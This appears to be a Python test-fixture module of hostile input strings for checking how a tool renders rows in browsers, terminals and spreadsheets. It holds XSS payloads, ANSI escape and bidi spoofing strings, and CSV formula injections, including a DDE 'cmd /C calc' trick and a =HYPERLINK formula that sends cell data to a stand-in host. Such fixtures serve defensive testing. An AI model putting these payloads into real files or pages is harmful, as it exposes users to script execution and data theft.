"""Row texts that try to act: in a browser, in a terminal, in a spreadsheet, on a reader."""

from __future__ import annotations

ACTIVE = "window.pwned = 1"
HOSTILE = {
    "script": f"<script>{ACTIVE}</script>",
    "handler": f'<img src=x onerror="{ACTIVE}"><b onclick="{ACTIVE}" autofocus onfocus="{ACTIVE}">',
    "svg": f'<svg onload="{ACTIVE}"><script>{ACTIVE}</script></svg>',
    "closing": f"</script></textarea></pre></style></title>--><script>{ACTIVE}</script><!--",
    "frame": f'<iframe srcdoc="<script>parent.{ACTIVE}</script>"></iframe><base href="//x">',
    "link": f'<a href="javascript:{ACTIVE}">x</a><meta http-equiv="refresh" content="0;url=//x">',
    "ansi": "\x1b[31mred\x1b[2J\x1b[1;1Hgone\x1b]0;title\x07\x1b]8;;http://x.invalid\x1b\\link",
    "controls": "a\x00b\x08\x08c\rover\x7f\x9b31m\x85\x0c",
    "bidi": "safe \u202egnp.exe\u202c \u2066x\u2069 zero\u200bwidth\ufeff \u00ad \u2028 \U000e0041",
    "markup": "[bold red]x[/] [link=http://x.invalid]y[/link] :warning: {{7*7}} ${7*7}",
    "formula": '=HYPERLINK("http://x.invalid?"&A1,"y")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "blank": '  =WEBSERVICE("http://x.invalid")',
    "tab": "\t=1+1",
    "wide": "\uff1d1+1",
    "right": "שלום עולם مرحبا",
    "marks": "a" + "\u0301" * 60,
}
"""What is tried, by its name."""
HUGE = "word " * 60_000 + "the very end"
